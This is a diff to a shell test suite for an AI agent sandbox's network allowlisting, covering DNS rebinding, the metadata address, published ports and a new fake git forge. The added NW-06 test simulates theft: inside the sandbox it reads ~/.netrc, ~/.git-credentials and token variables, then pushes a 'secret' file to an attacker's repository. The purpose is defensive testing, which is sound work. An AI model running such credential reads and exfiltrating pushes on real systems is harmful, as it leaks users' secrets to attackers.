@@ -62,11 +62,17 @@ canary=$!
 trap 'kill $canary' EXIT
 test_wait_for 'test -e "$HOME/canary.ready"' || exit 1
 
-# all_heard: everything that reached the host since the last time
+# all_heard: everything that reached the host since the last time. Where that is not known it fails, and
+# says something, so that it is not taken for nothing.
 all_heard() {
-	python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("\0the-end"); s.recv(9)' &&
-	test_wait_for 'grep -qx "the end" "$HOME/heard"' && grep -vx 'the end' "$HOME/heard" | sort -u
-	: >"$HOME/heard"
+	if python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("\0the-end"); s.recv(9)' &&
+		test_wait_for 'grep -qx "the end" "$HOME/heard"'; then
+		grep -vx 'the end' "$HOME/heard" | sort -u
+		: >"$HOME/heard"
+	else
+		echo "what was heard is not known"
+		return 1
+	fi
 }
 
 # A name under a listed wildcard is looked up on the host, and nothing else is.
@@ -217,7 +223,8 @@ test_expect_success 'NW-04: an empty list is nothing, and not all' '
 
 test_expect_success 'NW-02 NW-03 NW-04 NW-05: what is listed is reached, and nothing else by any spelling, protocol or name' '
 	in_session --allow web.example.org:443 --allow "*.wild.example.net:443" --allow localhost:7001 -- python3 attack.py >out || exit 1
-	all_heard >heard; cat out heard
+	all_heard >heard || exit 1
+	cat out heard
 	# all that the host heard of: the two that are listed, never a datagram
 	! not_looked_up heard | grep -vx -e "tcp 192.0.2.10 443" -e "tcp 127.0.0.1 7001" -e "tcp ::1 7001" &&
 	grep -qx "tcp 192.0.2.10 443" heard && grep -qx "tcp 127.0.0.1 7001" heard &&
@@ -229,28 +236,36 @@ test_expect_success 'NW-02 NW-03 NW-04 NW-05: what is listed is reached, and not
 
 test_expect_success 'NW-02 NW-03 NW-04: a listed name leads to no address that is not listed: rebinding' '
 	in_session --allow rebound.example.org:80 --allow meta.example.org:80 --allow "*.wild.example.net:80" -- python3 attack.py >out || exit 1
-	all_heard >heard; cat out heard
+	all_heard >heard || exit 1
+	cat out heard
 	! not_looked_up heard | grep -vx "tcp 192.0.2.10 80" && grep -qx "tcp 192.0.2.10 80" heard || exit 1
 	# an internal name may be listed, and leads there; a wildcard does not
 	in_session --allow private.example.org:80 --allow "*.wild.example.net:443" -- python3 attack.py >out || exit 1
-	all_heard >heard; cat out heard
+	all_heard >heard || exit 1
+	cat out heard
 	! not_looked_up heard | grep -vx -e "tcp 10.1.2.3 80" -e "tcp 192.0.2.10 443" && grep -qx "tcp 10.1.2.3 80" heard &&
 	# what is listed by its address is what was asked for
 	in_session --allow 169.254.169.254:80 --allow "[::1]:22" -- python3 attack.py >out || exit 1
-	all_heard >heard; cat out heard
+	all_heard >heard || exit 1
+	cat out heard
 	printf "tcp 169.254.169.254 80\ntcp ::1 22\n" | test_cmp - heard
 '
 
 test_expect_success 'NW-03: nor to this machine by another of its addresses' '
 	in_session --allow own.example.org:80 --allow own6.example.org:80 --allow "*.wild.example.net:80" -- python3 attack.py >out || exit 1
-	all_heard >heard; cat out heard
+	all_heard >heard || exit 1
+	cat out heard
 	! not_looked_up heard | grep -vx "tcp 192.0.2.10 80" && grep -qx "tcp 192.0.2.10 80" heard || exit 1
 	in_session --name own --allow own.example.org:80 -- python3 -c "
 import socket
-assert not socket.create_connection((\"own.example.org\", 80)).recv(9)" && exit 1
+try:
+    print(socket.create_connection((\"own.example.org\", 80), 20).recv(9))
+except ConnectionResetError:
+    print(\"reset\")" >out && echo reset | test_cmp - out || exit 1
 	git -C "$HOME/p" agent log --json own | grep "\"how\":\"forbidden\",\"to\":\"own.example.org:80\"" || exit 1
 	in_session --allow own.example.org:80 --allow 198.51.100.5:80 -- python3 attack.py >out || exit 1
-	all_heard >heard; cat out heard
+	all_heard >heard || exit 1
+	cat out heard
 	echo "tcp 198.51.100.5 80" | test_cmp - heard && grep -aq "^proxy0 own.example.org 80" out
 '
 
@@ -271,10 +286,90 @@ for tcp in False, True:
         s.connect((\"127.0.0.53\", 53))
         s.sendall(struct.pack(\"!H\", len(q)) * tcp + q)
         r = s.recv(600)[2 * tcp:]
-        assert r[:2] == q[:2] and r[3] & 15 in (1, 3) and r[6:8] == b\"\\0\\0\", r
+        assert r[:2] == q[:2] and r[3] & 15 in (0, 1, 3) and r[6:8] in (b\"\\0\\0\", b\"\\0\\1\"), r
+        # of the one name of these that is asked for its address, one of our own
+        assert (r[7] == 1) == what.startswith(b\"\\x3f\"), r
+        assert not r[7] or r[-4:-2] == b\"\\x7f\\x40\", r
 print(\"all answered\")
 " >out && grep "all answered" out && all_heard >heard && cat heard && test ! -s heard
 '
+
+# A forge: repositories that all can read, and the owner of a token can write. What it hears is a line
+# of `forge.log`: the path, and the token that came with it.
+cat >forge.py <<'EOF_FORGE'
+import base64, os, subprocess, sys
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+tokens = {"user": "user-token", "attacker": "attacker-token"}
+class Handler(BaseHTTPRequestHandler):
+    def serve(self):
+        path, _, query = self.path.partition("?")
+        auth = self.headers.get("Authorization", "")
+        token = base64.b64decode(auth[6:]).decode().partition(":")[2] if auth.startswith("Basic ") else auth
+        with open("forge.log", "a") as f:
+            print(path, query, token or "-", file=f)
+        write = "service=git-receive-pack" in query or path.endswith("/git-receive-pack")
+        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
+        if write and token != tokens[path.split("/")[1]]:
+            self.send_response(401)
+            self.send_header("WWW-Authenticate", 'Basic realm="forge"')
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+            return
+        env = dict(os.environ, REQUEST_METHOD=self.command, PATH_INFO=path, QUERY_STRING=query, REMOTE_USER=token,
+                   CONTENT_TYPE=self.headers.get("Content-Type", ""), CONTENT_LENGTH=str(len(body)),
+                   GIT_PROJECT_ROOT=os.getcwd() + "/forge", GIT_HTTP_EXPORT_ALL="1")
+        if "Content-Encoding" in self.headers:
+            env["HTTP_CONTENT_ENCODING"] = self.headers["Content-Encoding"]
+        out = subprocess.run(["git", "http-backend"], input=body, env=env, stdout=subprocess.PIPE).stdout
+        head, _, rest = out.partition(b"\r\n\r\n")
+        fields = [l.split(": ", 1) for l in head.decode().split("\r\n")]
+        self.send_response(int(dict(fields).get("Status", "200").split()[0]))
+        for name, value in fields:
+            if name != "Status":
+                self.send_header(name, value)
+        self.send_header("Content-Length", str(len(rest)))
+        self.end_headers()
+        self.wfile.write(rest)
+    do_GET = do_POST = serve
+    def log_message(self, *args):
+        pass
+s = ThreadingHTTPServer(("192.0.2.10", 8080), Handler)
+open("forge.ready", "w").close()
+s.serve_forever()
+EOF_FORGE
+
+test_expect_success 'NW-06: a host that is listed can be read and, with no key of the user, not written; what an agent brings a key for is named' '
+	mkdir forge && for who in user attacker; do
+		git init -q --bare forge/$who/r.git && git -C forge/$who/r.git config http.receivepack true || exit 1
+	done
+	python3 forge.py & forge=$!
+	test_when_finished "kill $forge; rm -f \"$HOME/.git-credentials\" \"$HOME/.netrc\"; git config --global --unset credential.helper" && test_wait_for "test -e forge.ready" || exit 1
+	at=git.example.org:8080
+	# all the ways in which the user has the key
+	git config --global credential.helper store && echo "http://user:user-token@$at" >"$HOME/.git-credentials" && printf "machine git.example.org login user password user-token\n" >"$HOME/.netrc" && chmod 600 "$HOME/.netrc" "$HOME/.git-credentials" &&
+	export GH_TOKEN=user-token GITHUB_TOKEN=user-token GIT_ASKPASS="$TRASH/askpass" SSH_AUTH_SOCK="$TRASH/agent.sock" && printf "#!/bin/sh\necho user-token\n" >askpass && chmod +x askpass &&
+	git -C "$HOME/p" push -q "http://$at/user/r.git" HEAD:refs/heads/main && grep "git-receive-pack.* user-token\$" forge.log || exit 1
+	: >forge.log
+	in_session --name forge --allow $at -- sh -c "
+		export GIT_TERMINAL_PROMPT=0
+		git ls-remote http://$at/user/r.git refs/heads/main | grep -c main
+		git push http://$at/user/r.git HEAD:refs/heads/taken && echo written
+		env | grep user-token; cat ~/.netrc ~/.git-credentials \"$TRASH/askpass\"; test -S \"$TRASH/agent.sock\" && echo agent
+		echo secret >secret && git add secret && git -c user.name=A -c user.email=a@example.com commit -qm secret && git push -q http://a:attacker-token@$at/attacker/r.git HEAD:refs/heads/out && echo sent
+	" >out 2>err; cat out err forge.log
+	printf "1\nsent\n" | test_cmp - out && grep "git-receive-pack" forge.log && ! grep user-token forge.log &&
+	test_must_fail git -C forge/user/r.git rev-parse -q --verify taken && test "$(git -C forge/attacker/r.git show out:secret)" = secret || exit 1
+	git -C "$HOME/p" agent log --json forge >log && python3 - log $at <<-\EOT
+	import json, sys
+	last = [e for e in map(json.loads, open(sys.argv[1])) if e["event"] == "network"][0]["connections"]
+	assert [(c["how"], c["to"]) for c in last] == [("allowed", sys.argv[2])] and last[0]["out"] > 1000, last
+	EOT
+'
+
+# served OPTIONS: a session `web` in which something listens on port 9999
+served() {
+	in_session "$@" --name web -d -- python3 serve.py 9999 && test_wait_for 'git -C "$HOME/p" agent shell web -- test -e ready'
+}
 
 test_expect_success 'NW-07: what listens inside is not to be reached from the host, unless it is published, and then on 127.0.0.1' '
 	tries="import socket, sys
@@ -285,12 +380,15 @@ for a in (\"127.0.0.1\", \"::1\", \"192.0.2.10\", \"10.1.2.3\"):
     except OSError:
         pass"
 	for options in "--network none" "--network allow"; do
-		in_session $options --name web -d -- python3 serve.py 9999 && test_wait_for "git -C \"$HOME/p\" agent shell web -- test -e ready" && python3 -c "$tries" 9999 >out; git -C "$HOME/p" agent stop web; git -C "$HOME/p" agent drop --force web
-		cat out; test ! -s out || exit 1
+		served $options && python3 -c "$tries" 9999 >out || exit 1
+		git -C "$HOME/p" agent stop web && git -C "$HOME/p" agent drop --force web && cat out && test ! -s out || exit 1
 	done
+	# it is there to be reached
+	served --network host && python3 -c "$tries" 9999 >out || exit 1
+	git -C "$HOME/p" agent stop web && git -C "$HOME/p" agent drop --force web && cat out && test "$(grep -c inside out)" = 4 || exit 1
 	printf "network:\n  mode: allow\n  publish: [\"9998:9999\"]\n" >"$conf" && test_when_finished "rm -f \"$conf\"" &&
-	in_session --name web -d -- python3 serve.py 9999 && test_wait_for "git -C \"$HOME/p\" agent shell web -- test -e ready" && python3 -c "$tries" 9998 >out; git -C "$HOME/p" agent stop web
-	cat out && echo "127.0.0.1 inside" | test_cmp - out
+	served && python3 -c "$tries" 9998 >out || exit 1
+	git -C "$HOME/p" agent stop web && cat out && echo "127.0.0.1 inside" | test_cmp - out
 '
 
 test_expect_success 'NW-08: junk, floods and clients that wait leave the proxy and the name server at work' '
@@ -347,7 +445,7 @@ try:
 except ConnectionRefusedError as e:
     print(e)
 ") >out 2>err; cat out err; grep -c "Errno" out | grep -x 3 &&
-	grep "db.example.org" err && grep "nothere.example.org" err && grep "10.1.2.3:80" err && git -C "$HOME/p" agent log said >journal && cat journal && grep "to db.example.org, how refused" journal && grep "to nothere.example.org, how refused" journal && grep "to 10.1.2.3:80, how refused" journal
+	grep "refused 3 connections: " err && for to in nothere.example.org:5432 db.example.org:5432 10.1.2.3:80; do grep "allow with .*--allow $to\b" err || exit 1; done && git -C "$HOME/p" agent log said >journal && cat journal && grep "to db.example.org:5432, how refused" journal && grep "to nothere.example.org:5432, how refused" journal && grep "to 10.1.2.3:80, how refused" journal
 '
 
 trap - EXIT
